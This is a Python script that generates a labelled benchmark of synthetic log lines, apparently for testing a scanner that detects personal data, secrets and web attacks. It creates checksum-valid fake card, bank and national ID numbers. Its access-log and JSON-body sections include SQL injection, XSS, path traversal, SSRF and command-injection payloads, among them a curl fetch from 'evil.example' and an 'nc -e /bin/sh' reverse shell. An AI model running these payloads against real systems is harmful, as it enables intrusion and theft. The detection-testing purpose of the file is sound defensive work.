# Generates bench/data/logs-labelled.jsonl (labelled log lines for bench/logs-accuracy.ts): python3 bench/data/logs-labelled.gen.py
import json, random, base64
random.seed(7)
out = []
def add(src, text, expect, allow=()):
    out.append({"source": src, "text": text, "expect": sorted(set(expect)), **({"allow": sorted(set(allow))} if allow else {})})

def luhn_digit(p):
    s = 0
    for i, ch in enumerate(reversed(p)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9: d -= 9
        s += d
    return str((10 - s % 10) % 10)
def rdig(n): return ''.join(random.choice('0123456789') for _ in range(n))
def card():
    pre, n = random.choice([('4', 16), ('51', 16), ('55', 16), ('2221', 16), ('34', 15), ('37', 15), ('6011', 16), ('4', 13)])
    p = pre + rdig(n - len(pre) - 1)
    return p + luhn_digit(p)
def bad_luhn(c): return c[:-1] + str((int(c[-1]) + 1) % 10)
def group4(c, sep): return sep.join(c[i:i+4] for i in range(0, len(c), 4))
T = lambda: f"2024-03-{random.randint(10,28)}T{random.randint(10,23)}:{random.randint(10,59)}:{random.randint(10,59)}Z"
for i in range(30):
    c = card()
    f = random.choice([c, group4(c, ' ') if len(c) == 16 else c, group4(c, '-') if len(c) == 16 else c])
    ctx = random.choice(['card=', 'charged card ', 'pan: ', 'payment method ', 'order 8812 paid with ', 'cc_number": "'])
    add('app', f'{T()} INFO {ctx}{f}', ['card'])
for i in range(30):
    c = card()
    f = random.choice([bad_luhn(c), '1' + rdig(15), str(1700000000000000 + random.randint(0, 10**12)), '9' * 16, rdig(12)])
    add('app', f'{T()} INFO order {f} created', [] if not (len(f) >= 13 and f[0] in '3456' and False) else ['card'])

def iban(cc, bban):
    rearr = bban + cc + '00'
    num = ''.join(str(int(ch, 36)) for ch in rearr)
    chk = 98 - int(num) % 97
    return f'{cc}{chk:02d}{bban}'
for i in range(25):
    cc, bban = random.choice([('DE', rdig(18)), ('GB', 'WEST' + rdig(14)), ('FR', rdig(10) + 'ABCDE' + rdig(6) + rdig(2)[:0] + rdig(2)[:2]), ('NL', 'ABNA' + rdig(10)), ('ES', rdig(20))])
    if cc == 'FR': bban = rdig(10) + rdig(11) + rdig(2)
    ib = iban(cc, bban)
    f = ib if i % 2 else ' '.join(ib[j:j+4] for j in range(0, len(ib), 4))
    add('app', f'{T()} INFO payout to {f} scheduled' if i % 3 else f'{T()} DEBUG iban={ib}', ['iban'])
for i in range(25):
    ib = iban('DE', rdig(18))
    bad = ib[:2] + f'{(int(ib[2:4]) + 1) % 100:02d}' + ib[4:]
    add('app', f'{T()} INFO ref {bad} processed' if i % 2 else f'{T()} INFO code XX{rdig(2)}ABCDEFGHIJKLMNOP', [])

names = ['alice', 'bob.smith', 'c.ortega', 'dana+test', 'eve_99', 'frank-o']
doms = ['example.com', 'mail.example.org', 'corp.example.co.uk', 'example.io']
for i in range(25):
    e = f'{random.choice(names)}{random.randint(1,99)}@{random.choice(doms)}'
    add('app', random.choice([f'{T()} INFO welcome mail sent to {e}', f'{T()} WARN login failed for user {e}', f'{{"level":"info","to":"{e}"}}']), ['email'])
for i in range(20):
    add('app', random.choice([f'{T()} INFO asset logo@{random.randint(2,3)}x.png loaded', f'{T()} INFO resolved @types/node@{random.randint(18,24)}.0.0', f'{T()} DEBUG decorator @Injectable applied', f'{T()} INFO git@ refs updated']), [])

def b64u(o): return base64.urlsafe_b64encode(json.dumps(o, separators=(',', ':')).encode()).decode().rstrip('=')
for i in range(25):
    tok = b64u({"alg": random.choice(["HS256", "RS256", "ES256"]), "typ": "JWT"}) + '.' + b64u({"sub": str(random.randint(1, 10**6)), "iat": 1700000000 + i}) + '.' + base64.urlsafe_b64encode(random.randbytes(32)).decode().rstrip('=')
    if i % 2: add('app', f'{T()} DEBUG token {tok} issued', ['jwt'], ['secret'])
    else: add('app', f'{T()} DEBUG id_token={tok}', ['jwt'], ['secret', 'query-secret'])
for i in range(20):
    add('app', f'{T()} INFO eyJ{b64u({"not": "a jwt", "n": i})[3:]}.abcdef.ghijk is no jwt' if i % 2 else f'{T()} INFO payload eyJ{rdig(6)} truncated', [])

def ssn():
    while True:
        a = random.randint(1, 899)
        if a != 666: return f'{a:03d}-{random.randint(1,99):02d}-{random.randint(1,9999):04d}'
for i in range(25):
    add('app', random.choice([f'{T()} INFO ssn={ssn()} verified', f'{T()} INFO applicant {ssn()} accepted', f'{T()} DEBUG tax id {ssn()}']), ['us-ssn'])
for i in range(25):
    add('app', random.choice([f'{T()} INFO ssn=000-{rdig(2)}-{rdig(4)}', f'{T()} INFO build 666-{rdig(2)}-{rdig(4)}', f'{T()} INFO date 2024-01-{random.randint(10,28)}', f'{T()} INFO ref 9{rdig(2)}-{rdig(2)}-{rdig(4)}', f'{T()} INFO range 123-45-67890']), [])

# national ids
def sin():
    while True:
        p = random.choice('1234567') + rdig(7)
        return p + luhn_digit(p)
def nir():
    body = f"{random.choice('12')}{rdig(2)}{random.randint(1,12):02d}{random.randint(1,95):02d}{rdig(3)}{rdig(3)}"
    return body + f"{97 - int(body) % 97:02d}"
DNI = 'TRWAGMYFPDXBNJZSQVHLCKE'
def dni():
    n = random.randint(10**7, 10**8 - 1); return f'{n}{DNI[n % 23]}'
def nie():
    x = random.choice('XYZ'); n = random.randint(0, 10**7 - 1); return f'{x}{n:07d}{DNI[int(str("XYZ".index(x)) + f"{n:07d}") % 23]}'
CF_ODD = [1,0,5,7,9,13,15,17,19,21,2,4,18,20,11,3,6,8,12,14,16,10,22,25,24,23]
def cf():
    L = lambda n: ''.join(random.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZ') for _ in range(n))
    s = L(6) + rdig(2) + random.choice('ABCDEHLMPRST') + f'{random.randint(1,71):02d}' + L(1) + rdig(3)
    tot = 0
    for i, ch in enumerate(s):
        v = int(ch) if ch.isdigit() else ord(ch) - 65
        tot += CF_ODD[v] if i % 2 == 0 else v
    return s + chr(65 + tot % 26)
def bsn():
    while True:
        d = rdig(8)
        for last in range(10):
            s = sum((9 - i) * int(d[i]) for i in range(8)) - last
            if s % 11 == 0 and d[0] != '0': return d + str(last)
VD = [[0,1,2,3,4,5,6,7,8,9],[1,2,3,4,0,6,7,8,9,5],[2,3,4,0,1,7,8,9,5,6],[3,4,0,1,2,8,9,5,6,7],[4,0,1,2,3,9,5,6,7,8],[5,9,8,7,6,0,4,3,2,1],[6,5,9,8,7,1,0,4,3,2],[7,6,5,9,8,2,1,0,4,3],[8,7,6,5,9,3,2,1,0,4],[9,8,7,6,5,4,3,2,1,0]]
VP = [[0,1,2,3,4,5,6,7,8,9],[1,5,7,6,2,8,3,0,9,4],[5,8,0,3,7,9,6,1,4,2],[8,9,1,6,0,4,3,5,2,7],[9,4,5,3,1,2,6,8,7,0],[4,2,8,6,5,7,3,9,0,1],[2,7,9,3,8,0,6,4,1,5],[7,0,4,6,9,1,3,2,5,8]]
def verh_ok(s):
    c = 0
    for i, ch in enumerate(reversed(s)): c = VD[c][VP[i % 8][int(ch)]]
    return c == 0
def aadhaar():
    p = random.choice('23456789') + rdig(10)
    for d in '0123456789':
        if verh_ok(p + d): return p + d
def cpf():
    d = rdig(9)
    for n in (9, 10):
        s = sum((n + 1 - i) * int(d[i]) for i in range(n)); d += str((s * 10) % 11 % 10)
    return d
def nino():
    while True:
        a = random.choice('ABCEGHJKLMNOPRSTWXYZ'); b = random.choice('ABCEGHJKLMNPRSTWXYZ')
        if a + b not in ('BG','GB','KN','NK','NT','TN','ZZ'): return f'{a}{b}{rdig(6)}{random.choice("ABCD")}'
def spaced(s, groups):
    out, i = [], 0
    for g in groups: out.append(s[i:i+g]); i += g
    return ' '.join(out)
def bump(s):  # change the last character so the check fails
    ch = s[-1]
    if ch.isdigit(): return s[:-1] + str((int(ch) + 1) % 10)
    return s[:-1] + ('A' if ch != 'A' else 'B')
gens = {
    'uk-nino': (nino, lambda v: [f'payroll: NINO {spaced(v, [2,2,2,2,1])} updated', f'ni_number={v}', f'employee {v} saved']),
    'ca-sin': (sin, lambda v: [f'sin={v}', f'applicant {v[:3]}-{v[3:6]}-{v[6:]} approved', f'SIN: {spaced(v, [3,3,3])}']),
    'fr-nir': (nir, lambda v: [f'assure {spaced(v, [1,2,2,2,3,3,2])}', f'nir={v}', f'numero insee {v}']),
    'es-dni': (lambda: random.choice([dni(), nie()]), lambda v: [f'cliente DNI {v}', f'doc {v} ok', f'nie={v}']),
    'it-fiscal-code': (cf, lambda v: [f'codice fiscale {v}', f'cf={v}', f'utente {v} registrato']),
    'nl-bsn': (bsn, lambda v: [f'bsn={v}', f'burgerservicenummer: {v}', f'BSN {v[:4]}.{v[4:6]}.{v[6:]}']),
    'in-aadhaar': (aadhaar, lambda v: [f'kyc ok {spaced(v, [4,4,4])}', f'aadhaar={v}', f'uid {v[:4]}-{v[4:8]}-{v[8:]} aadhaar']),
    'br-cpf': (cpf, lambda v: [f'cliente {v[:3]}.{v[3:6]}.{v[6:9]}-{v[9:]}', f'cpf={v}', f'{{"cpf":"{v}"}}']),
}
for kind, (g, forms) in gens.items():
    for i in range(24):
        v = g(); add('app', f'{T()} INFO {forms(v)[i % 3]}', [kind])
    for i in range(24):
        v = g(); w = bump(v)
        if kind == 'uk-nino':  # no check digit: the prefix and suffix rules are the check
            w = random.choice(['BG', 'GB', 'NK', 'TN', 'ZZ', 'DA', 'FA', 'QA', 'AO', 'AD']) + v[2:8] + random.choice('AB') if i % 4 else v[:8] + random.choice('EFGXYZ')
        bad = forms(w)[i % 3] if i % 2 else f'order {v if kind not in ("uk-nino", "es-dni", "it-fiscal-code") else w} shipped'
        add('app', f'{T()} INFO {bad}', [])

for i in range(25):
    add('app', random.choice([f'{T()} INFO sms to +44 20 7946 0{rdig(3)} queued', f'{T()} INFO call (415) 555-{rdig(4)}', f'{T()} INFO phone: +1 415 555 {rdig(4)}', f'{T()} INFO mobile +49 151 {rdig(8)}']), ['phone'])
for i in range(25):
    add('app', random.choice([f'{T()} INFO took {rdig(5)} ms', f'{T()} INFO version 1.{random.randint(0,9)}.{random.randint(0,9)}.{random.randint(0,99)}', f'haproxy 0/0/0/{rdig(3)}/{rdig(3)} 200 {rdig(4)} - -', f'{T()} INFO worker pid {rdig(5)} rss {rdig(6)}']), [])

for i in range(25):
    tok = base64.b64encode(f'user{i}:pw{rdig(6)}'.encode()).decode()
    add('app', random.choice([f'{T()} DEBUG headers: {{"Authorization": "Basic {tok}"}}', f'{T()} DEBUG Proxy-Authorization: Digest {rdig(12)}abc', f'{T()} DEBUG authorization="Bearer {rdig(8)}xyz{rdig(8)}"']), ['authorization|secret'])
for i in range(20):
    add('app', random.choice([f'{T()} WARN authorization failed for user {random.randint(1,999)}', f'{T()} DEBUG Authorization: -', f'{T()} INFO authorization policy loaded']), [])
for i in range(25):
    add('app', f'{T()} DEBUG Cookie: theme=dark; sid={rdig(4)}{random.choice("abcdef")}{rdig(6)}; lang=en', ['cookie'], ['secret', 'query-secret'])
for i in range(20):
    add('app', random.choice([f'{T()} INFO cookie banner shown', f'{T()} INFO cookie consent stored', f'{T()} INFO cookies: -']), [])
for i in range(25):
    add('app', random.choice([f'{T()} INFO fetch ftp://deploy:Tr0ub{rdig(4)}dor@files.example.com/x', f'{T()} INFO sync https://svc:Pa55{rdig(5)}w@git.example.com/repo.git', f'{T()} INFO redis://cache:{rdig(4)}secret{rdig(2)}@redis:6379/0']), ['url-password|secret'])
for i in range(20):
    add('app', random.choice([f'{T()} INFO fetch https://files.example.com/x', f'{T()} INFO see http://host:{random.randint(1000,9999)}/x', f'{T()} INFO mailto:someone']), [])
for i in range(25):
    add('app', random.choice([f'{T()} INFO GET /reset?token=a8f3k{rdig(6)}q1z7 HTTP/1.1', f'{T()} DEBUG {{"user":"bob","pwd":"Winter{rdig(4)}"}}', f'{T()} DEBUG login password=hunter{rdig(3)}hunter', f'{T()} DEBUG api_key: k{rdig(10)}x']), ['query-secret|secret'])
for i in range(20):
    add('app', random.choice([f'sudo: tim : TTY=pts/{random.randint(0,9)} ; PWD=/home/tim ; USER=root', f'{T()} INFO token=-', f'{T()} INFO password reset requested', f'{T()} INFO password=[REDACTED]']), [])

# Access-log lines: per-line attacks (injection in the URL, scanners) and benign traffic.
def clf(ip, method, target, status, ua='Mozilla/5.0 (X11; Linux x86_64) Firefox/124.0', minute=0):
    return f'{ip} - - [15/Mar/2024:10:{minute:02d}:{random.randint(10,59)} +0000] "{method} {target} HTTP/1.1" {status} {random.randint(100,9999)} "-" "{ua}"'
ip = lambda: f'203.0.113.{random.randint(1,254)}'
A = {
  'sql-injection': ["/items?id=1%27%20OR%20%271%27=%271", "/search?q=1+UNION+SELECT+username,password+FROM+users", "/p?id=5;DROP%20TABLE%20users", "/u?id=1%20AND%20SLEEP(5)", "/x?id=1'--", "/q?name=a'%20or%20'a'='a", "/r?id=1%20waitfor%20delay%20'0:0:5'", "/s?c=information_schema.tables"],
  'xss': ["/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/p?name=%3Cimg%20src=x%20onerror=alert(1)%3E", "/r?url=javascript:alert(document.cookie)", "/c?t=%3Csvg/onload=alert(1)%3E"],
  'path-traversal': ["/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/view?p=..%5c..%5cwindows%5cwin.ini", "/img?f=%2e%2e%2f%2e%2e%2fproc/self/environ"],
  'command-injection': ["/ping?host=8.8.8.8;cat%20/etc/shadow", "/run?c=$(whoami)", "/t?h=x%7Cnc%20-e%20/bin/sh%2010.0.0.1%204444", "/d?q=a%26%26id"],
  'ssrf': ["/fetch?url=http://169.254.169.254/latest/meta-data/", "/proxy?u=http://127.0.0.1:8080/admin", "/img?src=file:///etc/passwd", "/hook?target=http://localhost/admin"],
}
for kind, ps in A.items():
    for i in range(20):
        also = ['path-traversal'] if kind in ('ssrf', 'command-injection') else []
        if kind == 'path-traversal': also = ['command-injection', 'ssrf']
        if kind == 'xss': also = ['sql-injection']
        if kind == 'sql-injection': also = ['command-injection']
        add('access', clf(ip(), 'GET', ps[i % len(ps)], random.choice([200, 400, 403, 500])), [kind], also)
benign = ["/api/v1/users/42", "/search?q=rock+and+roll", "/search?q=O%27Reilly+books", "/products?sort=price&order=asc", "/blog/2024/03/hello-world", "/api/orders?from=2024-01-01&to=2024-01-31", "/static/app.8f3a2b.js", "/docs/select-from-a-list", "/api/v2/items?ids=1,2,3", "/callback?next=%2Fhome", "/s?q=drop+shipping+union+jobs", "/u/alice/settings", "/img/logo.svg", "/health", "/api/search?q=script+writing+tips"]
for i in range(60):
    add('access', clf(ip(), random.choice(['GET', 'POST']), benign[i % len(benign)], random.choice([200, 200, 304, 404])), [])
for i in range(20):
    add('access', clf(ip(), 'GET', random.choice(['/.env', '/wp-login.php', '/.git/config', '/phpmyadmin/', '/server-status', '/actuator/env']), 404), ['scanner'])
for i in range(10):
    add('access', clf(ip(), 'GET', '/', 200, ua=random.choice(['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.5.0)', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'masscan/1.3'])), ['scanner'])
for i in range(20):
    add('access', clf(ip(), 'GET', random.choice(['/environment', '/api/wp/posts', '/git/commits', '/status', '/actuator/health', '/config']), 200), [])

# Bodies in JSON application logs.
js = lambda body, **kw: json.dumps({"level": "info", "msg": "request", **kw, "body": body})
BT = {
  'sql-injection': [{"user": "admin' OR '1'='1", "pass": "x"}, '{"q":"1 UNION ALL SELECT username, password FROM users"}', {"id": "1; WAITFOR DELAY '0:0:5'"}, {"name": "x'; DROP TABLE users;--"}],
  'xss': [{"comment": "<script>alert(1)</script>"}, {"bio": "<img src=x onerror=alert(document.domain)>"}, {"url": "javascript:alert(1)"}, {"c": "<svg onload=alert(1)>"}],
  'path-traversal': [{"file": "../../../etc/passwd"}, {"path": "..\\..\\windows\\win.ini"}, {"tpl": "../../../../proc/self/environ"}],
  'command-injection': [{"host": "8.8.8.8; cat /etc/shadow"}, {"name": "$(curl http://evil.example/x.sh)"}, {"cmd": "a && whoami"}, {"h": "x | nc -e /bin/sh 10.0.0.1 4444"}],
  'ssrf': [{"webhook": "http://169.254.169.254/latest/meta-data/"}, {"url": "gopher://127.0.0.1:6379/_FLUSHALL"}, {"avatar": "file:///etc/passwd"}, {"cb": "http://metadata.google.internal/computeMetadata/v1/"}],
}
for kind, bs in BT.items():
    for i in range(16):
        also = {'path-traversal': ['command-injection', 'ssrf'], 'command-injection': ['path-traversal', 'ssrf'], 'ssrf': ['path-traversal'], 'sql-injection': ['command-injection'], 'xss': []}[kind]
        add('app', js(bs[i % len(bs)], user=f'u{i}'), [kind], also)
BF = [{"review": "Tom and Jerry like cheese; selected from the best"}, {"note": "it's fine, don't worry -- really"}, {"sql": "the union of two sets"}, {"html": '<p>Hello <img src="/a.png" alt="logo"></p>'}, {"text": "see javascript: the good parts"}, {"file": "../images/logo.png"}, {"title": "Tom & Jerry; cats and mice"}, {"text": "run ls in the folder"}, {"webhook": "https://hooks.example.com/x"}, {"callback": "http://10.0.0.5:8080/hook"}, {"q": "select a plan from the list"}, {"path": "/var/www/app"}]
for i in range(48):
    add('app', js(BF[i % len(BF)], user=f'u{i}'), [])

with open(__import__('os').path.join(__import__('os').path.dirname(__file__), 'logs-labelled.jsonl'), 'w') as f:
    for o in out: f.write(json.dumps(o, ensure_ascii=False) + '\n')
print(len(out))
